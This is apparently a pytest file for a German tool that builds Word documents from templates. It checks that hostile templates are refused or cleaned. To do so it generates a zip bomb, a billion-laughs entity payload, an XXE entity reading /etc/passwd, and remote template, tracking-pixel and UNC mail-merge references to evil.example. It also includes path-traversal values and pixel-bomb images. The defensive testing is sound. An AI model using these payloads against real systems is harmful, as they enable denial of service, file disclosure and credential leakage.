"""Hostile templates: bombs refused before anything is inflated, active content removed.

Every hostile template is generated here from the bundled one; none is stored.
"""

from __future__ import annotations

import resource
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

import konzeptdoc
from konzeptdoc.cli import main
from konzeptdoc.documents import build
from konzeptdoc.documents.template import bundled_template
from tests.conftest import WIESBADEN_2020, ooxml_check

MB = 1024 * 1024
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def template_with(
    target: Path,
    changes: dict[str, Callable[[bytes], bytes | None]] | None = None,
    extra: dict[str, bytes] | None = None,
) -> Path:
    """The bundled template with parts changed (None: left out) and parts added."""
    source = zipfile.ZipFile(bundled_template())
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for name in source.namelist():
            data: bytes | None = source.read(name)
            if changes and name in changes:
                data = changes[name](source.read(name))
            if data is not None:
                out.writestr(name, data)
        for name, data in (extra or {}).items():
            out.writestr(name, data)
    return target


def _append_zeros_entry(target: Path, name: str, size: int, *, declared: int | None = None) -> None:
    """Append a stored-deflate entry of `size` zero bytes, written without inflating it here.

    With full flushes every 1 MB block of zeros deflates to the same bytes, so a gigabyte
    costs a repeat of one ~1 KB block, not a gigabyte of compression work.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(MB)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream = block * (size // MB) + b"\x03\x00"  # an empty final block ends the stream
    crc = 0
    for _ in range(size // MB):
        crc = zlib.crc32(chunk, crc)
    shown = size if declared is None else declared
    with zipfile.ZipFile(target) as package:  # rewrite: entries, then ours, then a directory
        entries = [(info, package.read(info)) for info in package.infolist()]
    out, directory, offset = bytearray(), bytearray(), 0
    encoded = name.encode()
    records = [
        (info.filename.encode(), info.CRC, info.file_size, zlib.compressobj(6, zlib.DEFLATED, -15))
        for info, _ in entries
    ]
    bodies = []
    for (filename, crc_, size_, comp), (_, data) in zip(records, entries, strict=True):
        bodies.append((filename, crc_, size_, comp.compress(data) + comp.flush()))
    bodies.append((encoded, crc, shown, stream))
    for filename, crc_, size_, deflated in bodies:
        fields = (20, 0, 8, 0, 0x21, crc_, len(deflated), size_, len(filename))
        out += struct.pack("<I5HIIIHH", 0x04034B50, *fields, 0) + filename + deflated
        directory += struct.pack("<IH5HIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, 0, offset)
        directory += filename
        offset += 30 + len(filename) + len(deflated)
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(bodies), len(bodies), len(directory), offset, 0
    )
    target.write_bytes(bytes(out + directory + end))


@pytest.fixture(scope="module")
def concept() -> konzeptdoc.Concept:
    return konzeptdoc.load_concept(WIESBADEN_2020)


def _peak_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def test_a_gigabyte_logo_is_refused_from_the_directory(
    tmp_path: Path, concept: konzeptdoc.Concept, capsys: pytest.CaptureFixture[str]
) -> None:
    bomb = template_with(tmp_path / "stadt.docx")
    _append_zeros_entry(bomb, "word/media/logo.png", 1100 * MB)
    assert bomb.stat().st_size < 3 * MB
    peak, started = _peak_mb(), time.process_time()
    with pytest.raises(konzeptdoc.TemplateError) as caught:
        build(concept, output=tmp_path / "out.docx", template=bomb)
    assert time.process_time() - started < 5
    assert _peak_mb() - peak < 200  # the part was never inflated
    assert caught.value.path == bomb
    assert "word/media/logo.png" in str(caught.value) and "1100 MB" in str(caught.value)
    out = tmp_path / "cli.docx"
    code = main(["build", str(WIESBADEN_2020), "--template", str(bomb), "-o", str(out)])
    assert code == 2 and "logo.png" in capsys.readouterr().err
    assert not out.exists() and not (tmp_path / "out.docx").exists()


def test_a_part_inflating_past_its_declared_size_is_refused(
    tmp_path: Path, concept: konzeptdoc.Concept
) -> None:
    liar = template_with(tmp_path / "stadt.docx")
    _append_zeros_entry(liar, "word/media/logo.png", 64 * MB, declared=1000)
    peak = _peak_mb()
    with pytest.raises(konzeptdoc.TemplateError, match="beschädigt"):
        build(concept, output=tmp_path / "out.docx", template=liar)
    assert _peak_mb() - peak < 200


def test_an_unusually_compressed_part_is_refused(
    tmp_path: Path, concept: konzeptdoc.Concept
) -> None:
    dense = template_with(tmp_path / "stadt.docx", extra={"word/media/bild.png": bytes(4 * MB)})
    with pytest.raises(konzeptdoc.TemplateError, match=r"bild\.png .*stark gepackt"):
        build(concept, output=tmp_path / "out.docx", template=dense)


# "Billion laughs": ten levels of ten references each, a gigabyte if ever expanded.
ENTITIES = (
    b'<!DOCTYPE w:styles [<!ENTITY l0 "ha">'
    + b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]>"
)


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            lambda data: data.replace(b"?>", b"?>" + ENTITIES, 1).replace(
                b'<w:name w:val="Normal"/>', b'<w:name w:val="&l9;"/>'
            ),
            r"word/styles\.xml .*DTD",
        ),
        (
            lambda data: data.replace(b"</w:styles>", b"</w:style>"),
            r"word/styles\.xml .*kein gültiges XML \(Zeile \d+\)",
        ),
        (
            lambda data: data.replace(
                b"?>", b'?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd">', 1
            ),
            "DTD",
        ),
    ],
    ids=["entities", "malformed", "external-dtd"],
)
def test_template_xml_with_dtd_or_errors_is_refused(
    tmp_path: Path, concept: konzeptdoc.Concept, change: Callable[[bytes], bytes], expected: str
) -> None:
    broken = template_with(tmp_path / "stadt.docx", {"word/styles.xml": change})
    with pytest.raises(konzeptdoc.TemplateError, match=expected):
        build(concept, output=tmp_path / "out.docx", template=broken)
    assert not (tmp_path / "out.docx").exists()


def test_template_without_numbering_part_builds(
    tmp_path: Path, concept: konzeptdoc.Concept
) -> None:
    def no_numbering_rel(data: bytes) -> bytes:
        start = data.index(b'<Relationship Id="rId2"')
        return data[:start] + data[data.index(b"/>", start) + 2 :]

    plain = template_with(
        tmp_path / "stadt.docx",
        {
            "word/numbering.xml": lambda data: None,
            "word/_rels/document.xml.rels": no_numbering_rel,
            "[Content_Types].xml": lambda data: data.replace(
                b'<Override PartName="/word/numbering.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.numbering+xml"/>',
                b"",
            ),
        },
    )
    path = Path(build(concept, output=tmp_path / "out.docx", template=plain))
    ooxml_check(path)


PNG = (
    b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    + struct.pack(">I", zlib.crc32(b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)))
    + struct.pack(">I", 10) + b"IDAT" + zlib.compress(b"\x00\x00") + struct.pack(">I", zlib.crc32(b"IDAT" + zlib.compress(b"\x00\x00")))
    + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))
)  # fmt: skip

A = "http://schemas.openxmlformats.org/drawingml/2006/main"
PIC = "http://schemas.openxmlformats.org/drawingml/2006/picture"
LINKED_LOGO = f"""<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="Logo" descr="Logo"/>
<a:graphic xmlns:a="{A}"><a:graphicData uri="{PIC}"><pic:pic xmlns:pic="{PIC}"><pic:nvPicPr><pic:cNvPr id="1" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr>
<pic:blipFill><a:blip r:embed="rIdPng" r:link="rIdTrack"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>
<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>
<w:p><w:fldSimple w:instr=' INCLUDEPICTURE "http://evil.example/pixel.png" \\d '><w:r><w:t>Bild</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "\\\\\\\\server\\\\share\\\\x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Text</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
</w:hdr>"""


def _rel(rid: str, kind: str, target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'.encode()


def _rels(*rels: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        + f'<Relationships xmlns="{RELS}">'.encode()
        + b"".join(rels)
        + b"</Relationships>"
    )


def test_active_and_external_content_is_removed(
    tmp_path: Path, concept: konzeptdoc.Concept
) -> None:
    ms = "http://schemas.microsoft.com/office/2006/relationships"
    hostile = template_with(
        tmp_path / "stadt.docx",
        {
            "word/header1.xml": lambda data: data.replace(b"</w:hdr>", LINKED_LOGO.encode()),
            "word/settings.xml": lambda data: data.replace(
                b"<w:zoom", b'<w:attachedTemplate r:id="rIdTpl"/><w:zoom', 1
            ),
            "word/_rels/document.xml.rels": lambda data: data.replace(
                b"</Relationships>",
                _rel("rIdVba", f"{ms}/vbaProject", "vbaProject.bin")
                + _rel("rIdAx", f"{R}/control", "activeX/activeX1.xml")
                + _rel("rIdOle", f"{R}/oleObject", "embeddings/oleObject1.bin")
                + _rel("rIdOleLink", f"{R}/oleObject", "file:///C:/geheim.xlsx", True)
                + _rel("rIdSub", f"{R}/subDocument", "http://evil.example/sub.docx", True)
                + _rel("rIdWeb", f"{R}/hyperlink", "https://www.wiesbaden.de/", True)
                + b"</Relationships>",
            ),
            "[Content_Types].xml": lambda data: data.replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                b'<Default Extension="png" ContentType="image/png"/>'
                b'<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/></Types>',
            ),
        },
        extra={
            "word/_rels/settings.xml.rels": _rels(
                _rel("rIdTpl", f"{R}/attachedTemplate", "http://evil.example/makros.dotm", True)
            ),
            "word/_rels/header1.xml.rels": _rels(
                _rel("rIdPng", f"{R}/image", "media/logo.png"),
                _rel("rIdTrack", f"{R}/image", "http://evil.example/track.png", True),
            ),
            "word/media/logo.png": PNG,
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really VBA",
            "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 not really OLE",
        },
    )
    path = Path(build(concept, output=tmp_path / "out.docx", template=hostile))
    ooxml_check(path)
    package = zipfile.ZipFile(path)
    names = package.namelist()
    assert not [n for n in names if any(k in n for k in ("vba", "activeX", "embeddings"))]
    assert "word/media/logo.png" in names  # the logo's embedded copy stays
    everything = b"".join(package.read(n) for n in names)
    for trace in (b"evil.example", b"geheim.xlsx", b"attachedTemplate", b"vbaProject",
                  b"INCLUDEPICTURE", b"INCLUDETEXT", b"r:link", b"activeX", b"oleObject"):  # fmt: skip
        assert trace not in everything, trace
    rels = b"".join(package.read(n) for n in names if n.endswith(".rels"))
    assert rels.count(b'TargetMode="External"') == rels.count(b'/hyperlink" Target=') >= 1
    header = docx.Document(str(path)).sections[0].header
    assert (
        "Bild" in header._element.xml and "PAGE" in header._element.xml
    )  # results, harmless fields stay


@pytest.mark.parametrize(
    "value",
    [
        "/etc/stadt.docx",
        "../stadt.docx",
        "vorlagen/../../stadt.docx",
        "C:\\\\Vorlagen\\\\stadt.docx",
    ],
)
def test_settings_template_outside_the_repository_is_refused(
    repo: Path, value: str, capsys: pytest.CaptureFixture[str]
) -> None:
    settings = repo / "konzeptdoc.yaml"
    settings.write_text(settings.read_text() + f"template: '{value}'\n")
    [problem] = konzeptdoc.validate(repo)
    assert (problem.file, problem.line, problem.field_path) == (settings, 4, "template")
    assert "im Repository liegen" in problem.message
    out = repo / "out.docx"
    assert main(["-C", str(repo), "build", "concepts/test", "-o", str(out)]) == 1
    assert "konzeptdoc.yaml:4: template: die Vorlage muss im Repository" in capsys.readouterr().err
    assert not out.exists()


def test_settings_template_linking_outside_is_refused_but_command_line_is_free(
    repo: Path, tmp_path_factory: pytest.TempPathFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    elsewhere = template_with(tmp_path_factory.mktemp("elsewhere") / "stadt.docx")
    (repo / "vorlagen").mkdir()
    (repo / "vorlagen" / "stadt.docx").symlink_to(elsewhere)
    settings = repo / "konzeptdoc.yaml"
    settings.write_text(settings.read_text() + "template: vorlagen/stadt.docx\n")
    out = repo / "out.docx"
    assert (
        main(["-C", str(repo), "build", "concepts/test", "-o", str(out)]) == 2
    )  # TemplateError: input the command cannot use
    assert (
        "konzeptdoc.yaml: template: die Vorlage „vorlagen/stadt.docx“ führt"
        in capsys.readouterr().err
    )
    assert not out.exists()
    args = ["-C", str(repo), "build", "concepts/test", "-o", str(out), "--template", str(elsewhere)]
    assert main(args) == 0 and out.exists()


def test_a_part_named_twice_is_refused(tmp_path: Path, concept: konzeptdoc.Concept) -> None:
    twice = template_with(tmp_path / "stadt.docx")
    empty = f'<w:styles xmlns:w="{W}"/>'.encode()
    with zipfile.ZipFile(twice, "a") as package:
        package.writestr("Word/Styles.xml", empty)  # part names ignore case
    with pytest.raises(konzeptdoc.TemplateError, match=r"Word/Styles\.xml kommt in der Vorlage"):
        build(concept, output=tmp_path / "out.docx", template=twice)
    assert not (tmp_path / "out.docx").exists()


MAIL_MERGE = (
    b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
    b'<w:dataType w:val="native"/><w:connectString w:val="Data Source=\\\\evil.example\\'
    b'share\\adressen.xlsx"/><w:query w:val="SELECT * FROM `Tabelle1$`"/></w:mailMerge>'
)
VML_LOGO = (
    b'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
    b'style="width:10pt;height:10pt"><v:fill src="http://evil.example/fill.png"/>'
    b'<v:imagedata xmlns:o="urn:schemas-microsoft-com:office:office" '
    b'src="http://evil.example/v.png" o:href="\\\\evil.example\\bild.png" o:title="Logo"/>'
    b"</v:shape></w:pict></w:r><w:r><w:t>Stadtwappen</w:t></w:r></w:p></w:hdr>"
)


def test_mail_merge_and_vml_addresses_are_removed(
    tmp_path: Path, concept: konzeptdoc.Concept
) -> None:
    # Word asks to run a mail merge's query when the document opens and connects to its
    # source (a share on another server); VML pictures name addresses besides relationships.
    hostile = template_with(
        tmp_path / "stadt.docx",
        {
            "word/settings.xml": lambda data: data.replace(b"<w:zoom", MAIL_MERGE + b"<w:zoom", 1),
            "word/header1.xml": lambda data: data.replace(b"</w:hdr>", VML_LOGO),
        },
    )
    path = Path(build(concept, output=tmp_path / "out.docx", template=hostile))
    ooxml_check(path)
    package = zipfile.ZipFile(path)
    everything = b"".join(package.read(n) for n in package.namelist())
    for trace in (b"evil.example", b"mailMerge", b"SELECT"):
        assert trace not in everything, trace
    header = docx.Document(str(path)).sections[0].header._element.xml
    assert 'o:title="Logo"' in header  # the picture itself stays


def _png_header(width: int, height: int) -> bytes:
    header = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return PNG[:8] + struct.pack(">I", 13) + header + struct.pack(">I", zlib.crc32(header))


@pytest.mark.parametrize(
    ("name", "picture", "shown"),
    [
        # 389 KB as a real PNG of zeros; LibreOffice drew it in every header for > 4 min.
        ("logo.png", _png_header(20_000, 20_000) + PNG[33:], "20.000 × 20.000"),
        ("logo.gif", b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + bytes(3), "65.535 × 65.535"),
        (
            "logo.jpeg",
            b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
            b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", 9_000, 12_000) + bytes(9),
            "12.000 × 9.000",
        ),
    ],
)
def test_a_picture_of_too_many_pixels_is_refused(
    tmp_path: Path, concept: konzeptdoc.Concept, name: str, picture: bytes, shown: str
) -> None:
    heavy = template_with(tmp_path / "stadt.docx", extra={f"word/media/{name}": picture})
    with pytest.raises(konzeptdoc.TemplateError, match=f"{name} der Vorlage hat {shown} Bild"):
        build(concept, output=tmp_path / "out.docx", template=heavy)
    assert not (tmp_path / "out.docx").exists()


def test_an_svg_picture_with_a_dtd_is_refused(tmp_path: Path, concept: konzeptdoc.Concept) -> None:
    # SVG is XML: its entities could name files or addresses, as any other part's could.
    svg = (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
    )
    hostile = template_with(tmp_path / "stadt.docx", extra={"word/media/logo.svg": svg})
    with pytest.raises(konzeptdoc.TemplateError, match=r"logo\.svg der Vorlage enthält eine DTD"):
        build(concept, output=tmp_path / "out.docx", template=hostile)
